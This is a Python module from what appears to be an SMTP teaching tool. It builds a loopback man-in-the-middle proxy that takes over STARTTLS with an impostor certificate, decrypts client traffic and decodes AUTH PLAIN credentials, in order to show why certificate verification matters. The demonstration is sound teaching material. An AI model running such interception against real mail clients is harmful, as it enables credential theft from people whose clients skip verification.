"""A man in the middle on loopback, to show what certificate verification is for.

`MiddleProxy` sits between a client and the teaching server, both on 127.0.0.1. It passes
SMTP through line by line; when the client says STARTTLS it starts TLS *itself* on both
sides: towards the real server as a client that checks nothing, towards the client with
the impostor's certificate (self-signed, same name mx.tutor.test, the attacker's own key;
tutor/server/tlsmaterial.py). Every line the client sends after that is decrypted by the
middle, read (and recorded), re-encrypted and passed on — exactly what an attacker on the
path does to a client that does not verify.

`run_demo` drives two of the tutor's own clients through it: one that verifies against
the smtp-tutor local CA (it refuses the handshake: certificate verify failed), and one
that does not (as opportunistic STARTTLS between MTAs often does): it logs in, and the
middle reads the password. Nothing leaves the loopback interface; no screen here.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
from dataclasses import dataclass, field
from pathlib import Path

from tutor.client.client import SmtpClient, SmtpClientError, SmtpTlsError, TlsInfo, client_context
from tutor.client.tlsfacts import CertFacts, cert_facts
from tutor.smtp import authcodec

DEMO_USER, DEMO_PASSWORD = "you", "tutor-password"
_LINE_LIMIT = 4096
_TIMEOUT = 10.0


@dataclass
class MiddleLog:
    """What the middle saw: its own account of each connection, in order."""

    read_in_tls: list[str] = field(default_factory=list)  # client lines it decrypted
    refused: list[str] = field(default_factory=list)  # handshakes the client refused
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, where: list[str], text: str) -> None:
        with self.lock:
            where.append(text)


class MiddleProxy:
    """Listen on loopback; relay each connection to `upstream`, taking over its STARTTLS."""

    def __init__(
        self, upstream: tuple[str, int], impostor: ssl.SSLContext, *, timeout: float = _TIMEOUT
    ) -> None:
        self.upstream = upstream
        self.impostor = impostor
        self.timeout = timeout
        self.log = MiddleLog()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address: tuple[str, int] = self._listener.getsockname()[:2]
        self._threads: list[threading.Thread] = []
        self._accepting = threading.Thread(target=self._accept, daemon=True)

    def start(self) -> MiddleProxy:
        self._accepting.start()
        return self

    def stop(self) -> None:
        # close() alone does not wake a thread blocked in accept() on Linux; shutdown does
        # (elsewhere it may refuse a listening socket, and close() is enough there).
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()  # accept() fails, the accepting thread ends
        self._accepting.join(self.timeout)
        for thread in self._threads:
            thread.join(self.timeout)

    def __enter__(self) -> MiddleProxy:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return  # the listener was closed
            thread = threading.Thread(target=self._serve, args=(client,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _serve(self, client: socket.socket) -> None:
        client.settimeout(self.timeout)
        try:
            server = socket.create_connection(self.upstream, timeout=self.timeout)
        except OSError:
            client.close()
            return
        near, far = _Side(client), _Side(server)
        try:
            with contextlib.suppress(OSError, ValueError):
                self._relay(near, far)
        finally:
            near.close()
            far.close()

    def _relay(self, client: _Side, server: _Side) -> None:
        client.send(server.reply())  # the banner
        tls = False
        while line := client.line():
            if tls:
                self.log.add(self.log.read_in_tls, line.decode("utf-8", "replace").rstrip())
            server.send(line)
            reply = server.reply()
            if not tls and line.strip().upper() == b"STARTTLS" and reply.startswith(b"220"):
                client.send(reply)
                server.wrap(_unchecked(), server_side=False)
                try:
                    client.wrap(self.impostor, server_side=True)
                except ssl.SSLError as error:  # the client checked, and said no
                    self.log.add(self.log.refused, error.reason or str(error))
                    return
                tls = True
                continue
            client.send(reply)


class _Side:
    """One end of the relay: a socket read a line or a whole reply at a time."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.reader = sock.makefile("rb")

    def wrap(self, context: ssl.SSLContext, *, server_side: bool) -> None:
        # Lock-step: nothing is buffered past the STARTTLS exchange, so a new reader is safe.
        hostname = None if server_side else "mx.tutor.test"
        self.sock = context.wrap_socket(
            self.sock, server_side=server_side, server_hostname=hostname
        )
        self.reader = self.sock.makefile("rb")

    def line(self) -> bytes:
        return self.reader.readline(_LINE_LIMIT)

    def reply(self) -> bytes:
        """A whole reply: lines until one whose code is followed by a space."""
        lines = b""
        while line := self.reader.readline(_LINE_LIMIT):
            lines += line
            if line[3:4] != b"-":
                break
        return lines

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def close(self) -> None:
        self.reader.close()
        self.sock.close()


def _unchecked() -> ssl.SSLContext:
    """The middle's own client side: it has no reason to check anything."""
    return client_context(verify=False)


# --- the demonstration ---------------------------------------------------------------------


@dataclass(frozen=True)
class MitmDemo:
    """What happened when the tutor's two clients went through the middle."""

    upstream: tuple[str, int]  # the teaching server the middle stood in front of
    genuine: CertFacts  # the teaching server's certificate, signed by the local CA
    impostor: CertFacts  # what the middle presented instead
    ca_file: str
    refusal: str  # the verifying client's error, "…certificate verify failed: …"
    unverified_tls: TlsInfo | None  # the client that did not check: what it accepted
    unverified_session: tuple[tuple[str, str], ...]  # (command, first reply line)
    read_by_middle: tuple[str, ...]  # what the middle decrypted from that client
    stolen: str  # the credentials it decoded, "you / tutor-password"; "" if none


def run_demo(
    upstream: tuple[str, int],
    *,
    ca_file: Path,
    genuine_cert: Path,
    impostor: ssl.SSLContext,
    impostor_cert: Path,
    timeout: float = _TIMEOUT,
) -> MitmDemo:
    """Put the middle in front of `upstream` and send both clients through it."""
    with MiddleProxy(upstream, impostor, timeout=timeout) as middle:
        refusal = _verifying_client(middle.address, ca_file, timeout)
        tls, session = _unverified_client(middle.address, timeout)
    read = tuple(middle.log.read_in_tls)
    return MitmDemo(
        upstream=upstream,
        genuine=cert_facts(ssl.PEM_cert_to_DER_cert(genuine_cert.read_text())),
        impostor=cert_facts(ssl.PEM_cert_to_DER_cert(impostor_cert.read_text())),
        ca_file=str(ca_file),
        refusal=refusal,
        unverified_tls=tls,
        unverified_session=tuple(session),
        read_by_middle=read,
        stolen=_credentials(read),
    )


def _verifying_client(address: tuple[str, int], ca_file: Path, timeout: float) -> str:
    """EHLO, STARTTLS, and a handshake that checks the certificate against the local CA."""
    try:
        with SmtpClient.connect(*address, timeout=timeout) as client:
            client.send_line("EHLO client.example")
            client.send_line("STARTTLS")
            client.starttls(cafile=ca_file)
    except SmtpTlsError as error:
        return str(error)
    except SmtpClientError as error:
        return f"(the demonstration went wrong: {error})"
    return ""  # it verified: the middle is not in the middle


def _unverified_client(
    address: tuple[str, int], timeout: float
) -> tuple[TlsInfo | None, list[tuple[str, str]]]:
    """The same session from a client that accepts any certificate, then logs in."""
    session: list[tuple[str, str]] = []
    secret = authcodec.auth_plain(DEMO_USER, DEMO_PASSWORD)
    tls: TlsInfo | None = None
    try:
        with SmtpClient.connect(*address, timeout=timeout) as client:
            for command in ("EHLO client.example", "STARTTLS"):
                session.append((command, client.send_line(command).wire_lines()[0]))
            tls = client.starttls(verify=False)
            for command in ("EHLO client.example", f"AUTH PLAIN {secret}", "QUIT"):
                reply = client.send_line(command)
                session.append((command, reply.wire_lines()[0]))
    except SmtpClientError as error:
        session.append(("", f"(the connection failed: {error})"))
    return tls, session


def _credentials(lines: tuple[str, ...]) -> str:
    """Decode an AUTH PLAIN line the middle read, as an attacker would."""
    for line in lines:
        words = line.split()
        if len(words) == 3 and words[0].upper() == "AUTH" and words[1].upper() == "PLAIN":
            decoded = authcodec.decode(words[2])
            parts = decoded.split(b"\0") if decoded is not None else []
            if len(parts) == 3:
                user, password = (part.decode("utf-8", "replace") for part in parts[1:])
                return f"{user} / {password}"
    return ""
